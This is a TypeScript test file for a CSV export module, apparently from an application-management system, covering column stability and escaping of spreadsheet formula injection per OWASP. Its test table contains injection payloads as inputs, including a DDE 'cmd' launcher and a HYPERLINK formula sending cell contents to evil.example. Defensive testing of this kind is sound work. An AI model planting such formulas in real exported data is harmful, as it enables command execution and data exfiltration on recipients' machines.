import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { csvPage } from '../../../../src/core/export/framings/csv-page.ts'
import { renderAnnotations, renderSnapshot } from '../../../../src/domain/questions/application.ts'
import { buildKeyMap, type KeyMap } from '../../../../src/domain/questions/key-map.ts'
import type { VersionFill } from '../../../../src/domain/questions/version-fill.ts'
import { readCsvPage } from '../../../support/csv-page.ts'
import { storedRow } from '../../../support/stored-row.ts'
import { type StoredScenario, storedScenario } from '../../../support/stored-scenarios.ts'

/** CSV needs none. */
const noFill: VersionFill = { end: Buffer.alloc(0), entity: new Map() }

const framingOf = ({ versions }: Pick<StoredScenario, 'versions'>) =>
  csvPage({
    keyMap: buildKeyMap(versions),
    shapes: new Map(versions.map(version => [version.program_version_id, buildKeyMap([version])])),
  })

describe('a page of CSV', () => {
  test('keeps the positions of columns when a program is published again, with new ones at the end', () => {
    fc.assert(
      fc.property(storedScenario, ({ versions }) => {
        const columns = (of: typeof versions): string[] => readCsvPage(headerOnly(of)).columns
        const all = columns(versions)
        for (let i = 1; i <= versions.length; i++) {
          const before = columns(versions.slice(0, i))
          expect(all.slice(0, before.length)).toEqual(before)
        }
      }),
      { numRuns: 100 },
    )
  })

  test('refuses a text that does not match its version, instead of putting it under another question', () => {
    const shape: KeyMap = [{ question_id: 1, question_key: 'words', type: 'TEXT', option_ids: [], children: [] }]
    const framing = csvPage({ keyMap: shape, shapes: new Map([[7, shape]]) })
    const texts = (key: string) => `{"create_time":"","submit_time":"","applicant_id":1,"application_id":2,"language":"","program_name":"","program_version_id":7,"submitter_type":"","ti_email":null,"ti_organization":null,"application":{"${key}":{"question_type":"TEXT","text":"x"}` // biome-ignore format: one text
    const annotations = '"status":null,"status_last_modified_time":null,"application_note":null'
    const write = (snapshot: string) =>
      framing.rows.write(
        Buffer.alloc(5000),
        0,
        { ...storedRow(snapshot, annotations, true), programVersionId: 7 },
        noFill,
      )
    expect(write(texts('words'))).toBeGreaterThan(0)
    for (const wrong of [texts('other'), texts('words').slice(0, -3), `${texts('words')},`])
      expect(() => write(wrong)).toThrow()
  })
})

const headerOnly = (versions: StoredScenario['versions']): string => {
  const framing = framingOf({ versions })
  return `${framing.opening}${framing.end(null, 0, String)}`
}

describe('cells', () => {
  const columns = 'anything'
  const shapeOf = (type: 'TEXT' | 'PHONE' | 'NUMBER' | 'CURRENCY' | 'MAP' | 'ENUMERATOR'): KeyMap => [
    { question_id: 1, question_key: columns, type, option_ids: [], children: [] },
  ]
  /** The cell of an answer, as it stands between its commas. */
  const cellOf = (type: Parameters<typeof shapeOf>[0], answer: object, field: string): string => {
    const keyMap = shapeOf(type)
    const { rows, opening } = csvPage({ keyMap, shapes: new Map([[7, keyMap]]) })
    const snapshot = renderSnapshot(
      {
        applicant_id: 1,
        application_id: 2,
        create_time: 0,
        submit_time: 0,
        language: 'en',
        program_name: 'p',
        program_version_id: 7,
        submitter: { submitter_type: 'APPLICANT' },
        answers: new Map([[columns, { type, ...answer } as never]]),
      },
      keyMap,
      'UTC',
    )
    const none = renderAnnotations({ status: null, status_last_modified_time: null, application_note: null }, 'UTC')
    const target = Buffer.alloc(20_000)
    const row = { ...storedRow(snapshot, none, true), programVersionId: 7 }
    const end = rows.write(target, 0, row, noFill)
    expect(opening.toString()).toEndWith(`,anything.${field}`)
    return target.toString('utf8', target.lastIndexOf(',ti_organization') + 1, end).replace(/^.*"APPLICANT",,,/s, '')
  } // biome-ignore format: as it was
  const text = (value: string): string => cellOf('TEXT', { text: value }, 'text')

  test.each([
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1-1', `"'-1-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['＝1', `"'＝1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠x', `"'＠x"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("https://evil.example?"&A1,"click")', `"'=HYPERLINK(""https://evil.example?""&A1,""click"")"`],
    // An apostrophe that was there gets another, so that one taken away gives the text back.
    ["'tis", `"''tis"`],
    // Numbers are no formulas.
    ['-5', '"-5"'],
    ['+5', '"+5"'],
    ['-122.3301', '"-122.3301"'],
    ['-', `"'-"`],
    ['-.', `"'-."`],
    ['-5.', `"'-5."`],
    ['-1.2.3', `"'-1.2.3"`],
    ['+1e5', `"'+1e5"`],
    // Only the beginning counts.
    ['a=1', '"a=1"'],
    [' =1', '" =1"'],
    ['"=1', '"""=1"'],
    [',=1', '",=1"'],
    ['', '""'],
    ['a,b', '"a,b"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['C:\\new', '"C:\\new"'],
    ['\u0000', '"␀"'],
    ['\u0001\u001f', '"\u0001\u001f"'],
    ['\u2028 🏳️‍🌈 é', '"\u2028 🏳️‍🌈 é"'],
    ['ﬁ', '"ﬁ"'],
  ])('OWASP, "CSV Injection": the text %j is the cell %j', (value, cell) => {
    expect(text(value)).toBe(cell)
  })

  test('phone numbers and negative numbers are unchanged', () => {
    expect(cellOf('PHONE', { phone_number: '+12065550100' }, 'phone_number')).toBe('"+12065550100"')
    expect(cellOf('NUMBER', { number: -12 }, 'number')).toBe('-12')
    expect(cellOf('CURRENCY', { currency_cents: -1250 }, 'currency_dollars')).toBe('-12.5')
  })

  test('the cell of an enumerator is its number of entities, with any number of digits', () => {
    const entities = (count: number) => Array.from({ length: count }, () => ({ entity_name: 'x', answers: new Map() }))
    for (const count of [0, 9, 10, 11, 100])
      expect(cellOf('ENUMERATOR', { entities: entities(count) }, 'entities')).toBe(String(count))
  })

  test('a list is one cell, from which its items can be read', () => {
    const selections = (...ids: string[]): string => cellOf('MAP', { selections: ids }, 'selections')
    expect(selections('a', 'b', 'c')).toBe('"a;b;c"')
    expect(selections('a;b', 'c\\', ';', 'd"', 'x,y')).toBe('"a\\;b;c\\\\;\\;;d"";x,y"')
    expect(selections('=1', '-2')).toBe(`"'=1;-2"`)
    expect(selections('-1')).toBe('"-1"')
    expect(selections()).toBe('')
  })
})
